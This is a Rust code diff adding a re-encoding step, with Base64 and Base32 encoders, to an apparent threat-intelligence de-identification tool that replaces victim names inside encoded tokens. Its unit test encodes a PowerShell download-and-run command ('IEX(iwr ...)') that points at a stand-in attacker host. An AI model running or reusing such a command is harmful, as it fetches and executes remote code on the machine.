@@ -416,6 +416,122 @@ fn base32(s: &str) -> Option<Vec<u8>> {
     Some(out)
 }
 
+/// `text` encoded as the token `tok` (which [`find`] decoded to
+/// `decoded`) was: the same scheme (hex, hex bytes one space apart,
+/// Base32, Base64 standard or URL-safe), the same case and padding, and
+/// the same character set (UTF-8, or UTF-16LE as PowerShell's `-enc`
+/// takes). What de-identification puts in place of a token whose decoded
+/// text held the victim: the shareable text, encoded again, so that a
+/// command line or a configuration keeps its form and the attacker's part
+/// of it stays readable to whoever decodes it. `None` when the scheme
+/// cannot be told again.
+pub(crate) fn reencode(tok: &str, decoded: &str, text: &str) -> Option<String> {
+    let mut buf = Vec::new();
+    let seen =
+        tok.bytes().fold(0u8, |acc, b| acc | CLASS.get(usize::from(b)).copied().unwrap_or(0));
+    let upper = tok.bytes().any(|b| b.is_ascii_uppercase());
+    // The scheme, tried in the order `decode_classed` tries them.
+    let (scheme, bytes) = if tok.contains(' ') {
+        let t = spaced_hex_token(tok.as_bytes(), 0, tok.len(), &mut buf)?;
+        (Scheme::SpacedHex, (t.text == decoded).then(|| buf.clone())?)
+    } else if tok.len() % 2 == 0
+        && seen & NOT_HEX == 0
+        && seen & DIGIT != 0
+        && hex_into(tok, &mut buf)
+        && printable(&buf).as_deref() == Some(decoded)
+    {
+        (Scheme::Hex, buf.clone())
+    } else if seen & LOWER == 0
+        && seen & NOT_BASE32 == 0
+        && base32(tok).is_some_and(|v| printable(&v).as_deref() == Some(decoded))
+    {
+        (Scheme::Base32, base32(tok)?)
+    } else if base64_into(tok, &mut buf) && printable(&buf).as_deref() == Some(decoded) {
+        (Scheme::Base64, buf.clone())
+    } else {
+        return None;
+    };
+    let utf8 = std::str::from_utf8(&bytes).is_ok_and(|t| t == decoded);
+    let raw: Vec<u8> = if utf8 {
+        text.as_bytes().to_vec()
+    } else {
+        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    };
+    let hex_digit = |v: u8| {
+        let d = char::from_digit(u32::from(v), 16).unwrap_or('0');
+        if upper { d.to_ascii_uppercase() } else { d }
+    };
+    Some(match scheme {
+        Scheme::Hex => raw.iter().flat_map(|&b| [hex_digit(b >> 4), hex_digit(b & 15)]).collect(),
+        Scheme::SpacedHex => raw
+            .iter()
+            .map(|&b| [hex_digit(b >> 4), hex_digit(b & 15)].iter().collect::<String>())
+            .collect::<Vec<_>>()
+            .join(" "),
+        // Padded when the token was, or when its length was whole blocks
+        // (it needed none): a decoder that wants padding gets it.
+        Scheme::Base32 => base32_encoded(&raw, tok.ends_with('=') || tok.len() % 8 == 0),
+        Scheme::Base64 => {
+            let url_safe = tok.contains(['-', '_']) && !tok.contains(['+', '/']);
+            let pad = tok.ends_with('=') || (!url_safe && tok.len() % 4 == 0);
+            base64_encoded(&raw, url_safe, pad)
+        }
+    })
+}
+
+/// The schemes [`reencode`] tells apart.
+#[derive(Clone, Copy)]
+enum Scheme {
+    Hex,
+    SpacedHex,
+    Base32,
+    Base64,
+}
+
+/// `bytes` in Base64, standard or URL-safe, padded or not.
+fn base64_encoded(bytes: &[u8], url_safe: bool, pad: bool) -> String {
+    let alphabet: &[u8; 64] = if url_safe {
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    } else {
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    };
+    let digit = |v: u32| char::from(alphabet.get((v & 63) as usize).copied().unwrap_or(b'A'));
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for chunk in bytes.chunks(3) {
+        let n =
+            chunk.iter().fold(0u32, |acc, &b| acc << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
+        let digits = chunk.len() + 1;
+        for k in 0..4 {
+            if k < digits {
+                out.push(digit(n >> (18 - 6 * k)));
+            } else if pad {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// `bytes` in Base32 (RFC 4648), padded or not.
+fn base32_encoded(bytes: &[u8], pad: bool) -> String {
+    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    let mut out = String::with_capacity(bytes.len().div_ceil(5) * 8);
+    for chunk in bytes.chunks(5) {
+        let n =
+            chunk.iter().fold(0u64, |acc, &b| acc << 8 | u64::from(b)) << (8 * (5 - chunk.len()));
+        let digits = (chunk.len() * 8).div_ceil(5);
+        for k in 0..8 {
+            if k < digits {
+                let v = (n >> (35 - 5 * k)) & 31;
+                out.push(char::from(ALPHABET.get(v as usize).copied().unwrap_or(b'A')));
+            } else if pad {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
 /// The token search before tokens were decoded into one buffer, kept as
 /// the reference the property test holds [`find`] to.
 #[cfg(test)]
@@ -552,6 +668,33 @@ mod tests {
     #![allow(clippy::unwrap_used)]
     use super::*;
     use proptest::prelude::*;
+
+    #[test]
+    fn reencoding_gives_back_each_token_and_encodes_new_text_alike() {
+        let utf16: Vec<u8> = "IEX(iwr https://hjsk.evil.example/a)"
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let tokens = [
+            base64_encoded(&utf16, false, true),
+            base64_encoded(b"minatogawa-seiki.co.jp/login?x=1", true, false),
+            base32_encoded(b"minatogawa seiki", true),
+            "6d696e61746f67617761".to_owned(),
+            "6D 69 6E 61 74 6F 67 61".to_owned(),
+        ];
+        for tok in &tokens {
+            let found = find(tok);
+            let t = found.iter().find(|t| (t.start, t.end) == (0, tok.len())).unwrap();
+            assert_eq!(reencode(tok, &t.text, &t.text).as_deref(), Some(tok.as_str()), "{tok}");
+            // New text in the same scheme decodes back to itself.
+            let new = reencode(tok, &t.text, "<victim-org> at hxxps://evil[.]example/a").unwrap();
+            let back = find(&new);
+            assert!(
+                back.iter().any(|b| b.text == "<victim-org> at hxxps://evil[.]example/a"),
+                "{tok} -> {new}"
+            );
+        }
+    }
 
     /// Pieces of tokens: words, Base64, hex, Base32, paths and queries.
     const PIECES: &[&str] = &[
